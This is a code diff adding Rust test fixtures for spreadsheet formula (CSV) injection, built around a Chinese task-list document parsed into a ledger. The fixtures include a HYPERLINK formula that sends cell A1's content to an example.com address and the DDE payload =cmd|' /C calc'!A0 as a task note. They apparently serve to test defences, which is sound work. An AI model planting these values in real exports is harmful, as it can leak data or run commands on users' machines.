@@ -173,3 +173,23 @@ pub fn unit_filter(key: &str) -> Filter {
         ..Filter::default()
     }
 }
+
+/// A document whose texts, units and note a spreadsheet would run as formulas.
+pub const FORMULA_DOCUMENT: &str = "2024年测试清单\n一、=HYPERLINK(\"http://example.com/?d=\"&A1,\"点击查看\")\n责任单位：市发改局\n二、@SUM(1+1)推进工作\n配合单位：=1+2局\n三、+1+2 推进工作\n四、-2+3 推进工作\n五、 =1+1 推进工作\n";
+
+/// [`FORMULA_DOCUMENT`] parsed, with the note `=cmd|' /C calc'!A0` on its first task.
+pub fn formula_ledger() -> Ledger {
+    let outline = parse(FORMULA_DOCUMENT);
+    let index = OutlineIndex::new(&outline);
+    let filter = Filter::default();
+    let matches = index.apply(&filter, &|_| false);
+    let mut first = true;
+    Ledger::of_view(&index, &filter, &matches, "2026-11-22", |_| Mark {
+        status: String::new(),
+        note: if std::mem::take(&mut first) {
+            "=cmd|' /C calc'!A0".to_owned()
+        } else {
+            "-".to_owned()
+        },
+    })
+}
